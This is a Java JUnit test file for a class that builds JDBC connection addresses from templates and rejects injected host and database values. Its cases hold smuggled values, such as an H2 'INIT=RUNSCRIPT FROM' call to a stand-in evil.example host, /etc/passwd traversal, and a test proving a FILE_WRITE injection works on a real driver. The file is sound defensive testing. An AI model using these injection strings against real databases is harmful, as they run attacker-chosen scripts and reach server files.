package eider.sql.driver;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import eider.connector.SourceException;
import eider.connector.SourceException.Kind;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Driver;
import java.util.List;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever sets the fields of a connection chooses words inside of an address, and never the address. */
class AddressTest {

    private static Address address(String template) throws SourceException {
        return Address.of(template, false);
    }

    private static void refuses(String option, Address address, String host, int port, String database) {
        SourceException e = catchThrowableOfType(SourceException.class, () -> address.of(host, port, database));
        assertThat(e).as("%s, %s, %s into %s", host, port, database, address.template()).isNotNull();
        assertThat(e.kind()).isEqualTo(Kind.CONFIG);
        assertThat(e.getMessage()).startsWith("Option '" + option + "': ").endsWith(".");
        assertThat(e.getMessage().chars().noneMatch(Character::isISOControl)).as("a message of one line").isTrue();
    }

    @Test
    void fillsItsPlacesAndNothingElse() throws SourceException {
        assertThat(address("jdbc:oracle:thin:@//{host}:{port}/{database}").of("db.example.com", 1521, "ORCLPDB1"))
                .isEqualTo("jdbc:oracle:thin:@//db.example.com:1521/ORCLPDB1");
        assertThat(address("jdbc:sqlserver://{host}:{port};databaseName={database};encrypt=true").of("10.0.0.7", 1433, "shop_2$"))
                .isEqualTo("jdbc:sqlserver://10.0.0.7:1433;databaseName=shop_2$;encrypt=true");
        assertThat(address("jdbc:db2://{host}:{port}/{database}").of("::1", 50000, "SAMPLE")).isEqualTo("jdbc:db2://[::1]:50000/SAMPLE");
        assertThat(address("jdbc:db2://{host}:{port}/{database}").of("[2001:db8::7]", 50000, "S")).isEqualTo("jdbc:db2://[2001:db8::7]:50000/S");
        assertThat(address("jdbc:sqlite:/srv/shops/{database}.db").of("", 0, "north")).isEqualTo("jdbc:sqlite:/srv/shops/north.db");
        assertThat(Address.of("jdbc:sqlite:/srv/shops/{database}", true).of("", 0, "2026/north.db"))
                .isEqualTo("jdbc:sqlite:/srv/shops/2026/north.db");
        assertThat(address("jdbc:h2:mem:one").of("-", 0, "-")).isEqualTo("jdbc:h2:mem:one");
    }

    /** What ends a part of one driver's address or another's, or names a file, or is not seen. */
    @ParameterizedTest
    @ValueSource(strings = {"shop;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "shop;TRACE_LEVEL_FILE=3", "SAMPLE:traceFile=/tmp/x;",
        "shop;integratedSecurity=true", "shop?allowLoadLocalInfile=true", "shop&socketFactory=x", "shop#x", "a@evil.example", "a/../../etc/passwd",
        "a/b",
        "..", "../x", "a..b", ".hidden", "-D", "~/x", "C:\\x", "a\\b", "{host}", "${env}", "a b", "a\tb", "a\nb", "a\rb", "a\u0000b", "a\u202eb",
        "a\u00a0b",
        "a'b", "a\"b", "a(b)", "a,b", "a=b", "a%3Bb", "%2e%2e", "a+b", "a*b", "a|b", "a<b", "a`b", "größe", "a；b", "mem:x", "a:b", "[a]", "!"})
    void noDatabaseEndsItsPart(String database) throws SourceException {
        for (String template : List.of("jdbc:h2:tcp://{host}:{port}/{database}", "jdbc:h2:file:/srv/{database}",
                "jdbc:sqlserver://{host}:{port};databaseName={database};encrypt=true")) {
            Address address = address(template);
            refuses("database", address, address.wantsHost() ? "db" : "", 1, database);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"db;INIT=x", "db/x?y=z", "db:9092", "db:9092/mem:x;INIT=y#", "evil.example/x@db", "user@evil.example", "db,evil.example",
        "(DESCRIPTION=(ADDRESS=(HOST=evil)))", "a b", "db\n", "db\u0000", "[db]", "[::1", "::1]", "[::1]:9092", "::1/x", "1:2", ":", "::g",
        "fe80::1%eth0",
        "db\\instance", "..", "-h", ".db", "{database}", "db{port}", "bücher.example", "%64b"})
    void noHostEndsItsPart(String host) throws SourceException {
        if (host.equals("db\n")) {
            // What only surrounds a word is nobody's attack.
            assertThat(address("jdbc:h2:tcp://{host}:{port}/{database}").of(host, 1, "x")).isEqualTo("jdbc:h2:tcp://db:1/x");
            return;
        }
        refuses("host", address("jdbc:h2:tcp://{host}:{port}/{database}"), host, 1, "x");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/etc/passwd", "a//b", "a/", "../x", "a/../b", "a/./b", "a/.ssh", "a;b/c", "a/b?c", "~/a", "a\\b", ":memory:"})
    void aPathIsMadeOfNames(String path) throws SourceException {
        refuses("database", Address.of("jdbc:sqlite:/srv/shops/{database}", true), "", 0, path);
    }

    @Test
    void whatIsMissingOrHasNoPlaceIsNamed() throws SourceException {
        Address server = address("jdbc:h2:tcp://{host}:{port}/{database}");
        refuses("host", server, " ", 1, "x");
        refuses("host", server, null, 1, "x");
        refuses("port", server, "db", 0, "x");
        refuses("port", server, "db", 65_536, "x");
        refuses("database", server, "db", 1, "-");
        refuses("database", server, "db", 1, "");
        refuses("database", server, "db", 1, "x".repeat(256));
        Address file = address("jdbc:sqlite:/srv/{database}.db");
        refuses("host", file, "db", 0, "x");
        refuses("database", address("jdbc:h2:mem:one"), "", 0, "x");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "jdbc:", "http://db", "oracle:thin", "jdbc:x:{password}", "jdbc:x:{Host}", "jdbc:x:{", "jdbc:x:}",
            "jdbc:x:{ho{port}st}",
        "jdbc:x:\n{host}"})
    void aTemplateHasNoOtherPlaces(String template) {
        SourceException e = catchThrowableOfType(SourceException.class, () -> address(template));
        assertThat(e.kind()).isEqualTo(Kind.CONFIG);
        assertThat(e.getMessage()).startsWith("Option 'url': ");
    }

    /** The wall is there for a reason: without it this very word makes a real driver run a script of somebody else's choice. */
    @Test
    void withoutTheCheckAWordRunsAScript(@TempDir Path folder) throws Exception {
        Path mark = folder.resolve("written");
        String word = "x;INIT=CALL FILE_WRITE('aa'\\, '" + mark + "')";
        refuses("database", address("jdbc:h2:mem:{database}"), "", 0, word);
        try (URLClassLoader h2 = new URLClassLoader(new URL[] {Dropped.jar("h2.jar").toUri().toURL()}, ClassLoader.getPlatformClassLoader())) {
            Driver driver = (Driver) h2.loadClass("org.h2.Driver").getConstructor().newInstance();
            try (Connection connection = driver.connect("jdbc:h2:mem:{database}".replace("{database}", word), new Properties())) {
                assertThat(connection.isClosed()).isFalse();
            }
        }
        assertThat(Files.exists(mark)).as("the file that the word made the driver write").isTrue();
    }
}
